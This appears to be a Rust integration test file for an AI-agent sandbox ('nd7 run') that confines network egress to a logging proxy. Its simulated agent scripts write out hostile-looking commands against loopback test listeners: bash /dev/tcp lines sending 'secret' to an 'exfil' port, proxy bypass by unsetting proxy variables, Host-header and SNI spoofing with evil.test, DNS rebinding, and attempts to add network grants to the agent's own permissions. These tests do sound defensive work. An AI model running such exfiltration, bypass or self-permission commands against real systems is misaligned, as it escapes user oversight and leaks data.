//! What the agent can send (issue 31): under `nd7 run` the network is
//! reached only through the session's egress proxy, to the hosts the user
//! allows, and each connection is on the record. Each attack is tried as
//! the ordinary account, by an agent script under `nd7 run`, against
//! listeners this test runs on the host's loopback (the "world"); names
//! resolve through `ND7_TEST_HOSTS`, never the real DNS.
//!
//! Guards (each test names its own): the network namespace
//! (`netns::enter` in `src/sandbox/linux/netns.rs`), the proxy's rules
//! (`Rules::judge` in `crates/nd7-format/src/policy/net.rs`), the Host and
//! SNI checks in `src/egress.rs`.
#![cfg(target_os = "linux")]

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::sync::{Arc, Mutex};

use serde_json::Value;

use crate::runs::{X, lines, run_chains, run_dirs, verify};
use crate::world::*;

/// A listener on the host's loopback that answers every request with
/// `hello from NAME` and keeps what it was sent.
struct Listener {
    port: u16,
    got: Arc<Mutex<Vec<u8>>>,
}

impl Listener {
    fn on(addr: &str, name: &'static str) -> Listener {
        let listener = TcpListener::bind(addr).expect("bind a test listener");
        let port = listener.local_addr().expect("addr").port();
        let got = Arc::new(Mutex::new(Vec::new()));
        let kept = got.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut s) = stream else { continue };
                let kept = kept.clone();
                std::thread::spawn(move || {
                    let _ = s.set_read_timeout(Some(std::time::Duration::from_millis(500)));
                    let mut buf = [0u8; 4096];
                    while let Ok(n) = s.read(&mut buf) {
                        if n == 0 {
                            break;
                        }
                        kept.lock().expect("lock").extend_from_slice(&buf[..n]);
                        if buf[..n].windows(4).any(|w| w == b"\r\n\r\n") {
                            break;
                        }
                    }
                    let body = format!("hello from {name}\n");
                    let _ = write!(
                        s,
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                        body.len()
                    );
                });
            }
        });
        Listener { port, got }
    }

    fn received(&self) -> String {
        String::from_utf8_lossy(&self.got.lock().expect("lock")).into_owned()
    }
}

fn grants(w: &World, text: &str) {
    std::fs::create_dir_all(w.home().join(".nd7")).expect("mkdir ~/.nd7");
    std::fs::write(w.home().join(".nd7/grants"), text).expect("write grants");
}

/// The `net` entries of the world's only run.
fn net_entries(w: &World) -> Vec<Value> {
    let chains = run_chains(w);
    chains
        .last()
        .expect("a run")
        .iter()
        .filter(|e| e["kind"] == "net")
        .cloned()
        .collect()
}

/// Guards the network namespace (`netns::enter`): without it, every one of
/// these reaches the host. The allowed request through the proxy is the
/// control, and the log holds both kinds of connection.
#[test]
fn only_the_proxy_leads_out_and_every_connection_is_on_the_record() {
    let w = World::new();
    let registry = Listener::on("127.0.0.1:0", "registry");
    let exfil = Listener::on("127.0.0.1:0", "exfil");
    let vault = Listener::on("127.0.0.1:0", "vault");
    let six = TcpListener::bind("[::1]:0").ok();
    let dns = UdpSocket::bind("127.0.0.1:0").expect("bind udp");
    dns.set_nonblocking(true).expect("nonblocking");
    let dns_port = dns.local_addr().expect("addr").port();
    grants(&w, &format!("net localhost:{}\n", registry.port));
    let six_line = match &six {
        Some(l) => format!(
            "x ipv6 bash -c 'echo hi > /dev/tcp/::1/{}'",
            l.local_addr().expect("addr").port()
        ),
        None => "echo ipv6:no".into(),
    };
    let body = format!(
        r#"{X}
x allowed curl -sf -o "$PWD/allowed" http://localhost:{reg}/x
x direct bash -c 'echo secret > /dev/tcp/127.0.0.1/{exfil}'
x direct-allowed bash -c 'echo secret > /dev/tcp/127.0.0.1/{reg}'
x vault bash -c 'echo hi > /dev/tcp/127.0.0.1/{vault}'
x no-proxy env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sf --max-time 5 http://127.0.0.1:{exfil}/
x refused curl -sf http://127.0.0.1:{exfil}/leak
{six_line}
echo dnsq > /dev/udp/127.0.0.1/{dns_port}
echo "$HTTPS_PROXY" > "$PWD/proxy"
"#,
        reg = registry.port,
        exfil = exfil.port,
        vault = vault.port,
    );
    let out = w.run_agent(&body);
    assert_eq!(
        lines(&out),
        [
            "allowed:yes",
            "direct:no",
            "direct-allowed:no",
            "vault:no",
            "no-proxy:no",
            "refused:no",
            "ipv6:no"
        ],
        "{}",
        text(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(w.proj().join("allowed")).expect("allowed"),
        "hello from registry\n"
    );
    assert_eq!(exfil.received(), "", "nothing reached the exfil host");
    assert_eq!(vault.received(), "");
    let mut buf = [0u8; 64];
    assert!(
        dns.recv(&mut buf).is_err(),
        "no UDP datagram reached the host"
    );
    let net = net_entries(&w);
    assert!(
        net.iter().any(|e| e["body"]["verdict"] == "allowed"
            && e["body"]["host"] == "localhost"
            && e["body"]["port"] == registry.port
            && e["body"]["bytes_down"].as_u64() > Some(0)),
        "{net:?}"
    );
    assert!(
        net.iter().any(|e| e["body"]["verdict"] == "refused"
            && e["body"]["host"] == "127.0.0.1"
            && e["body"]["allow"] == format!("nd7 allow --net 127.0.0.1:{}", exfil.port)
            // Told where nd7 can tell (best effort: null when not).
            && (e["body"]["process"] == "curl" || e["body"]["process"].is_null())),
        "{net:?}"
    );
    assert!(net.iter().all(|e| e["source"] == "effect:nd7-proxy"));
    let v = verify(&w, &run_dirs(&w)[0]);
    assert!(v.status.success(), "{}", text(&v.stdout));
    // The readers: show lists the hosts and marks the refusal; search finds
    // a host across sessions.
    let id = run_dirs(&w)[0]
        .file_name()
        .expect("name")
        .to_string_lossy()
        .into_owned();
    let show = text(&w.nd7(&["show", &id]).output().expect("nd7 show").stdout);
    assert!(
        show.lines()
            .any(|l| l.contains("net")
                && l.contains(&format!("localhost:{} allowed", registry.port))),
        "{show}"
    );
    assert!(
        show.lines()
            .any(|l| l.contains("REFUSED")
                && l.contains(&format!("127.0.0.1:{} refused", exfil.port))),
        "{show}"
    );
    let found = w
        .nd7(&["search", "localhost"])
        .output()
        .expect("nd7 search");
    let found = text(&found.stdout);
    assert!(
        found
            .lines()
            .any(|l| l.contains(" host ") && l.ends_with(" localhost")),
        "{found}"
    );
    let err = text(&out.stderr);
    assert!(
        err.contains(&format!(
            "the proxy refused connections to 127.0.0.1:{}",
            exfil.port
        )),
        "{err}"
    );
}

/// Guards the network namespace (`netns::enter`, the proxy's listener made
/// inside it): while the session runs, nothing outside it (another local
/// user, any process of the account's) can use its proxy as a relay.
#[test]
fn the_sessions_proxy_is_no_relay_for_anyone_outside() {
    let w = World::new();
    let target = Listener::on("127.0.0.1:0", "target");
    grants(&w, &format!("net localhost:{}\n", target.port));
    let (child, _) =
        w.start_agent(r#"echo "$HTTPS_PROXY" > proxy; touch ready; wait_for done; echo over"#);
    w.wait_for("ready");
    let proxy = std::fs::read_to_string(w.proj().join("proxy")).expect("proxy");
    let port = proxy
        .trim()
        .strip_prefix("http://127.0.0.1:")
        .unwrap_or_else(|| panic!("no proxy given: {proxy:?}"))
        .to_string();
    let relay = TcpStream::connect(format!("127.0.0.1:{port}")).and_then(|mut s| {
        let p = target.port;
        write!(
            s,
            "GET http://localhost:{p}/ HTTP/1.1\r\nHost: localhost:{p}\r\n\r\n"
        )?;
        let mut got = String::new();
        s.read_to_string(&mut got)?;
        Ok(got)
    });
    w.signal("done");
    let out = child.wait_with_output().expect("nd7 run");
    assert_eq!(lines(&out), ["over"], "{}", text(&out.stderr));
    // What decides is the target: the same port number outside the
    // session's namespace may belong to another program (another test's
    // server answered here once), which is no relay; the session's proxy,
    // reached from outside, would have passed the request on.
    assert_eq!(
        target.received(),
        "",
        "the session's proxy relayed a request from outside: {relay:?}"
    );
}

/// Guards the proxy's judgment (`Rules::judge`, rebinding and IP literals)
/// and the Host and SNI checks in `src/egress.rs`: an allowed name that
/// resolves to loopback (IPv4-mapped too), an IP literal not granted as
/// one, a Host header and a TLS server name other than the host asked for.
/// (The metadata, link-local and private ranges are the unit tests' in
/// `policy::net`: with the guard out, a test here would reach them.)
#[test]
fn names_are_checked_where_they_are_used() {
    let w = World::new();
    let target = Listener::on("127.0.0.1:0", "target");
    let p = target.port;
    grants(
        &w,
        &format!("net rebind.test:{p}\nnet mapped.test:{p}\nnet localhost:{p}\n"),
    );
    let body = format!(
        r#"{X}
x rebind-loopback curl -sf http://rebind.test:{p}/
x rebind-mapped curl -sf http://mapped.test:{p}/
x ip-literal curl -sfp https://127.0.0.2:{p}/
x host-header curl -sf -H 'Host: evil.test' http://localhost:{p}/
x sni curl -sfk -p --connect-to evil.test:{p}:localhost:{p} https://evil.test:{p}/
x allowed curl -sf http://localhost:{p}/
"#
    );
    let out = w
        .nd7(&["run", &w.agent(&body)])
        .env(
            "ND7_TEST_HOSTS",
            "rebind.test=127.0.0.1,mapped.test=::ffff:127.0.0.1",
        )
        .output()
        .expect("nd7 run");
    assert_eq!(
        lines(&out),
        [
            "rebind-loopback:no",
            "rebind-mapped:no",
            "ip-literal:no",
            "host-header:no",
            "sni:no",
            "allowed:yes"
        ],
        "{}",
        text(&out.stderr)
    );
    let got = target.received();
    assert!(!got.contains("evil.test"), "{got}");
    let why: Vec<String> = net_entries(&w)
        .iter()
        .filter(|e| e["body"]["verdict"] == "refused")
        .map(|e| e["body"]["why"].as_str().unwrap_or("").to_string())
        .collect();
    assert!(
        why.iter().any(|w| w.contains("a loopback address")),
        "{why:?}"
    );
    assert!(
        why.iter().any(|w| w.contains("::ffff:127.0.0.1")),
        "{why:?}"
    );
    assert!(why.iter().any(|w| w.contains("Host header")), "{why:?}");
    assert!(why.iter().any(|w| w.contains("TLS server name")), "{why:?}");
}

/// Guards `~/.nd7` and the run directory kept from the floor: the agent
/// can neither add a `net` line to the grants file nor allow a host for
/// its own session.
#[test]
fn the_agent_cannot_widen_its_own_network() {
    let w = World::new();
    let target = Listener::on("127.0.0.1:0", "target");
    let p = target.port;
    grants(&w, "# nothing\n");
    let body = format!(
        r#"{X}
x grants bash -c 'echo "net localhost:{p}" >> "$HOME_DIR/.nd7/grants"'
x allow "$ND7" allow --net localhost:{p}
x rules-file bash -c 'echo "allow localhost:{p}" > "$HOME_DIR/.nd7/runs/$PPID/net-rules"'
x reached curl -sf http://localhost:{p}/
"#
    );
    let out = w.run_agent(&body);
    assert_eq!(
        lines(&out),
        ["grants:no", "allow:no", "rules-file:no", "reached:no"],
        "{}",
        text(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(w.home().join(".nd7/grants")).expect("grants"),
        "# nothing\n"
    );
}

/// Guards `Proxy::rules` reading the run's rules file and `change_rules`:
/// `nd7 allow --net` from another terminal lets the session's next
/// connection through, and `nd7 deny --net` takes it back; both are in the
/// run's log.
#[test]
fn allow_and_deny_from_another_terminal_change_the_next_connection() {
    let w = World::new();
    let target = Listener::on("127.0.0.1:0", "target");
    let p = target.port;
    let body = format!(
        r#"{X}
x before curl -sf http://localhost:{p}/
touch asked; wait_for allowed
x allowed curl -sf http://localhost:{p}/
touch asked-again; wait_for denied
x denied curl -sf http://localhost:{p}/
"#
    );
    let (child, pid) = w.start_agent(&body);
    let pid = pid.to_string();
    w.wait_for("asked");
    let allow = w
        .nd7(&["allow", "--run", &pid, "--net", &format!("localhost:{p}")])
        .output()
        .expect("nd7 allow --net");
    assert!(allow.status.success(), "{}", text(&allow.stderr));
    w.signal("allowed");
    w.wait_for("asked-again");
    let deny = w
        .nd7(&["deny", "--run", &pid, "--net", &format!("localhost:{p}")])
        .output()
        .expect("nd7 deny --net");
    assert!(deny.status.success(), "{}", text(&deny.stderr));
    w.signal("denied");
    let out = child.wait_with_output().expect("nd7 run");
    assert_eq!(
        lines(&out),
        ["before:no", "allowed:yes", "denied:no"],
        "{}",
        text(&out.stderr)
    );
    let chain = run_chains(&w).pop().expect("a run");
    let changes: Vec<&Value> = chain.iter().filter(|e| e["kind"] == "grant").collect();
    assert_eq!(changes.len(), 2, "{changes:?}");
    assert_eq!(changes[0]["body"]["net"], format!("localhost:{p}"));
    let allowed = chain
        .iter()
        .find(|e| e["kind"] == "net" && e["body"]["verdict"] == "allowed")
        .expect("an allowed connection");
    assert_eq!(
        allowed["body"]["rule"],
        format!("localhost:{p} (nd7 allow --net)")
    );
}

/// Guards `Limits::reserve` (`Proxy::slot`): the agent's commands hold
/// 1,000 connections open through the proxy, and the agent's own API
/// connection still gets through.
#[test]
fn a_thousand_connections_do_not_starve_the_agents_api() {
    let w = World::new();
    let hold = TcpListener::bind("127.0.0.1:0").expect("bind");
    let hold_port = hold.local_addr().expect("addr").port();
    // The held connections' peer: accepts and keeps each open.
    std::thread::spawn(move || {
        let mut kept = Vec::new();
        for s in hold.incoming().flatten() {
            kept.push(s);
        }
    });
    let api = Listener::on("127.0.0.1:0", "api");
    grants(&w, &format!("net localhost:{hold_port}\n"));
    let body = format!(
        r#"
opened=0
for i in $(seq 1000); do
  exec {{fd}}<>/dev/tcp/127.0.0.1/${{HTTP_PROXY##*:}} || break
  printf 'CONNECT localhost:{hold_port} HTTP/1.1\r\nHost: localhost:{hold_port}\r\n\r\n' >&$fd
  opened=$((opened+1))
done
echo "opened:$opened"
curl -sf --max-time 30 "$ANTHROPIC_BASE_URL/v1/messages" && echo api:yes || echo api:no
"#
    );
    let claude = crate::runs::fake_claude(&w, &body);
    let out = w
        .nd7(&["run", &claude])
        .env(
            "ANTHROPIC_BASE_URL",
            format!("http://127.0.0.1:{}", api.port),
        )
        .output()
        .expect("nd7 run");
    let got = lines(&out);
    assert!(
        got.contains(&"opened:1000".to_string()),
        "{got:?} {}",
        text(&out.stderr)
    );
    assert!(got.contains(&"hello from api".to_string()), "{got:?}");
    assert!(got.contains(&"api:yes".to_string()), "{got:?}");
}

/// Where user namespaces are refused nothing keeps the network: the banner
/// says so in one line, `nd7 doctor` too, and `--net strict` refuses to
/// start (exit 2, the program never run).
#[test]
fn without_user_namespaces_egress_is_said_to_be_unenforced_and_strict_refuses() {
    let w = World::new().without_user_namespaces();
    let out = w.run_agent("echo ran");
    assert_eq!(lines(&out), ["ran"], "{}", text(&out.stderr));
    let err = text(&out.stderr);
    assert!(
        err.lines().any(|l| l.starts_with(
            "nd7 run: not enforced on this system: what the agent may send over the network"
        )),
        "{err}"
    );
    let agent = w.agent("echo ran");
    let strict = w
        .nd7(&["run", "--net", "strict", &agent])
        .output()
        .expect("nd7 run");
    assert_eq!(strict.status.code(), Some(2), "{}", text(&strict.stderr));
    assert!(lines(&strict).is_empty());
    assert!(
        text(&strict.stderr).contains("--net strict"),
        "{}",
        text(&strict.stderr)
    );
    let doctor = text(&w.nd7(&["doctor"]).output().expect("nd7 doctor").stdout);
    assert!(
        doctor.contains("the network is not kept to nd7's proxy here"),
        "{doctor}"
    );
}

/// Guards `NET_REFUSALS_WRITTEN` (`RunLog::net`): an agent that knocks in a
/// loop writes the first 1,000 refusals into the chain, and the rest are
/// counted and said at the end; the chain still verifies.
#[test]
fn a_knocking_loop_cannot_fill_the_log() {
    let w = World::new();
    let body = r#"
for i in $(seq 1100); do
  exec 3<>/dev/tcp/127.0.0.1/${HTTP_PROXY##*:} || break
  printf 'CONNECT nowhere.test:443 HTTP/1.1\r\n\r\n' >&3
  head -c 12 <&3 >/dev/null
  exec 3<&-
done
echo knocked
"#;
    let out = w.run_agent(body);
    assert_eq!(lines(&out), ["knocked"], "{}", text(&out.stderr));
    let net = net_entries(&w);
    assert_eq!(net.len(), 1000);
    let err = text(&out.stderr);
    assert!(err.contains("100 more were only counted"), "{err}");
    let v = verify(&w, &run_dirs(&w)[0]);
    assert!(v.status.success(), "{}", text(&v.stdout));
}
